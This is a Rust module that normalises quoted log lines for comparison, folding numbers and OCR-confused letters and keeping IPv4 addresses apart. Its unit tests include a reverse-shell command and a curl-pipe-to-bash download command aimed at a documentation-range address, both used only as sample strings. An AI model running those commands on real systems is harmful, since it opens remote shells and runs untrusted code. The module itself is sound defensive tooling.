//! Normalised quotes for comparison: changing parts (times, ports, counters)
//! and letters that OCR confuses are made equal.

use std::hash::{DefaultHasher, Hash as _, Hasher as _};

/// Minimum matching words for a part of a line to count as the line.
const FEWEST_WORDS: usize = 3;

/// Distinctive quote, normalised.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Quote {
    folded: String,
    /// Sorted hashes of its words without the numbers. In memory only: the hash
    /// may change with the compiler.
    words: Vec<u64>,
}

impl Quote {
    /// Normalises a quote; `None` for one that is not distinctive: `FAIL`,
    /// `48`, `web-01`.
    pub(super) fn new(text: &str) -> Option<Self> {
        Self::folded(fold(text))
    }

    pub(super) fn folded(folded: String) -> Option<Self> {
        let mut words: Vec<u64> = folded
            .split(' ')
            .filter(|word| *word != "#" && !word.is_empty())
            .map(|word| {
                let mut hasher = DefaultHasher::new();
                word.hash(&mut hasher);
                hasher.finish()
            })
            .collect();
        words.sort_unstable();
        words.dedup();
        (words.len() >= FEWEST_WORDS).then_some(Self { folded, words })
    }

    pub(super) fn text(&self) -> &str {
        &self.folded
    }

    /// True if they are equal, or one is a part of the other, with tolerance
    /// for misread letters.
    pub(super) fn is_like(&self, other: &Self) -> bool {
        if self.folded == other.folded {
            return true;
        }
        let shorter = self.words.len().min(other.words.len());
        let (mut a, mut b, mut same) = (0, 0, 0);
        while a < self.words.len() && b < other.words.len() {
            match self.words[a].cmp(&other.words[b]) {
                std::cmp::Ordering::Less => a += 1,
                std::cmp::Ordering::Greater => b += 1,
                std::cmp::Ordering::Equal => {
                    (a, b, same) = (a + 1, b + 1, same + 1);
                }
            }
        }
        if same < FEWEST_WORDS {
            return false;
        }
        same == shorter || (same * 2 >= shorter && self.is_misread(other))
    }

    /// True if the words that the longer lacks are in it with one or two
    /// misread letters.
    fn is_misread(&self, other: &Self) -> bool {
        let (short, long) = if self.words.len() <= other.words.len() {
            (self, other)
        } else {
            (other, self)
        };
        let have: Vec<&str> = long.folded.split(' ').collect();
        let lacking = short.folded.split(' ').filter(|word| !have.contains(word));
        lacking
            .filter(|word| *word != "#")
            .all(|word| have.iter().any(|read| is_near(word, read)))
    }
}

/// True if at most one letter in four differs, in words of at least four:
/// `passwoid` for `password`.
fn is_near(a: &str, b: &str) -> bool {
    let (a, b): (Vec<char>, Vec<char>) = (a.chars().collect(), b.chars().collect());
    let most = a.len().min(b.len()) / 4;
    // Names that differ in a digit are two names.
    let digits = |word: &[char]| word.iter().filter(|c| c.is_ascii_digit()).count();
    if most == 0 || a.len().abs_diff(b.len()) > most || digits(&a) + digits(&b) > 0 || a.len() > 64
    {
        return false;
    }
    // Levenshtein distance, row by row.
    let mut row: Vec<usize> = (0..=b.len()).collect();
    for (i, x) in a.iter().enumerate() {
        let mut diagonal = row[0];
        row[0] = i + 1;
        for (j, y) in b.iter().enumerate() {
            let change = diagonal + usize::from(x != y);
            diagonal = row[j + 1];
            row[j + 1] = change.min(row[j] + 1).min(diagonal + 1);
        }
    }
    row[b.len()] <= most
}

/// Normalised text: lower case, single blanks, numbers as `#`, letters that OCR
/// confuses made equal.
pub(super) fn fold(text: &str) -> String {
    let mut folded = String::with_capacity(text.len());
    let lower = text.to_lowercase();
    let words = lower
        .split(|c: char| !(c.is_alphanumeric() || ".:%$".contains(c)))
        .map(|word| word.trim_matches(|c: char| ".:".contains(c)))
        .filter(|word| !word.is_empty());
    for word in words {
        let number = is_number(word);
        if number && folded.ends_with('#') {
            continue;
        }
        if !folded.is_empty() {
            folded.push(' ');
        }
        if number {
            folded.push('#');
        } else {
            folded.push_str(&level(word));
        }
    }
    folded
}

/// Text with the letters that OCR confuses made equal.
pub(super) fn level(text: &str) -> String {
    let one = |c| match c {
        '0' => 'o',
        '1' | 'l' | '|' => 'i',
        c => c,
    };
    text.replace("rn", "m").chars().map(one).collect()
}

/// True for a word that begins with a digit: a count, a time, a size, a port.
/// An IPv4 address is excluded, as it distinguishes attacks.
fn is_number(word: &str) -> bool {
    word.starts_with(|c: char| c.is_ascii_digit()) && word.matches('.').count() != 3
}

#[cfg(test)]
mod tests {
    use super::*;

    fn alike(a: &str, b: &str) -> bool {
        Quote::new(a).unwrap().is_like(&Quote::new(b).unwrap())
    }

    #[test]
    fn numbers_and_ocr_confusions_are_ignored() {
        assert_eq!(
            fold("2026-11-23T09:14:05Z AWS_SECRET_ACCESS_KEY=wJal (27 x, 4.8 s)"),
            "# aws secret access key wjai # x # s"
        );
        assert!(alike(
            "Failed password for admin from 203.0.113.45 port 51502 ssh2",
            "Failed passwoid for adrnin from 203.0.113.45 port 51526 ssh2",
        ));
        assert!(!alike(
            "Failed password for admin from 203.0.113.45 port 51502 ssh2",
            "Accepted password for admin from 203.0.113.45 port 51544 ssh2",
        ));
        assert!(alike(
            "Failed password for admin from 203.0.113.45 port 51502 ssh2",
            "10:02 Failed password for admin from 203.0.113.45",
        ));
        assert!(!alike(
            "bash -i >& /dev/tcp/203.0.113.45/4444 0>&1",
            "curl -s http://203.0.113.45/x.sh | bash",
        ));
    }

    #[test]
    fn generic_quotes_are_not_compared() {
        for vague in ["", "FAIL", "48", "web-01", "p99 4.8 s", "CrashLoopBackOff"] {
            assert_eq!(Quote::new(vague), None, "{vague}");
        }
    }
}
